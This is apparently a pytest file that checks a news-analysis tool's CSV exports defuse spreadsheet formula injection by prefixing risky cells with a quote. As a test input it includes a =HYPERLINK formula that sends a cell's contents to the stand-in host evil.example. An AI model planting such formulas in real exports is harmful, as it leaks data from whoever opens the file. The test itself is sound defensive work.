"""CSV exports defuse spreadsheet formulas: a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is written with a leading ``'`` (OWASP's advice); numbers are never touched.

Every name and sentence is invented.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from slant import api, exports
from slant.cli import app
from slant.models import Actor, Analysis, Article, Flag, Span
from slant.store import Store

TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Quill wins the harbour vote")'
TEXT = "Mayor Ada Quill won the harbour vote on Monday, and =Harbour Watch called it a rout."


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        (TITLE, "'" + TITLE),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("-", "'-"),
        # unchanged: plain text, a formula character later in the cell, empty text, numbers, None
        ("Quill wins", "Quill wins"),
        ("a = b", "a = b"),
        (" =1+2", " =1+2"),
        ("'=1+2", "'=1+2"),
        ("", ""),
        (-0.5, -0.5),
        (-3, -3),
        (0.25, 0.25),
        (None, None),
        (True, True),
    ],
)
def test_safe_cell(value: Any, expected: Any) -> None:
    out = exports.safe_cell(value)
    assert out == expected and type(out) is type(expected)


def rigged() -> Analysis:
    quill = Actor("ada-quill", "Ada Quill", "person", (), (Span(6, 15, "Ada Quill"),))
    at = TEXT.index("=Harbour Watch")
    watch = Actor("watch", "=Harbour Watch", "group", (), (Span(at, at + 14, "=Harbour Watch"),))
    rout = TEXT.index("a rout")
    return Analysis(
        article=Article(
            id="e5000000000000e5",
            source="test/rigged.txt",
            text=TEXT,
            title=TITLE,
            author="+Bram Ottley",
            site_name="@Quayside Ledger",
            language="en",
        ),
        actors=(quill, watch),
        flags=(Flag("loaded", "rout", "-=loaded word", rout, rout + 6, "a rout", explanation="\t=2*3"),),
        scores={"hyperpartisan": -0.5, "loaded_density": 0.25},
        pipeline=("test.v1",),
    )


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> str:
    path = str(tmp_path_factory.mktemp("csv-injection") / "x.db")
    with Store(path) as st:
        st.write([rigged()])
    return path


def test_export_csv_defuses_a_hyperlink_title(db: str) -> None:
    result = CliRunner().invoke(app, ["export", "--format", "csv", "--db", db])
    assert result.exit_code == 0, result.output
    [row] = list(csv.DictReader(io.StringIO(result.stdout)))
    assert row["title"] == "'" + TITLE
    assert row["author"] == "'+Bram Ottley" and row["site_name"] == "'@Quayside Ledger"
    assert row["hyperpartisan"] == "-0.5" and row["loaded_density"] == "0.25"  # numbers stay numbers
    assert row["id"] == "e5000000000000e5" and row["words"].isdigit()


def test_export_csv_file_defuses_every_table(db: str, tmp_path: Path) -> None:
    path = tmp_path / "flags.csv"
    assert api.export_to_path("csv", path, db=db, table="flags") == 1
    with path.open(encoding="utf-8", newline="") as fh:
        [row] = list(csv.DictReader(fh))
    assert row["title"] == "'" + TITLE and row["label"] == "'-=loaded word" and row["explanation"] == "'\t=2*3"
    assert row["text"] == "a rout" and row["confidence"] == "1.0"
    buf = io.StringIO()
    api.export("csv", buf, db=db, table="actors")
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert "'=Harbour Watch" in {r["name"] for r in rows}
    assert not [c for r in rows for c in r.values() if c.startswith(exports.FORMULA_STARTS)]
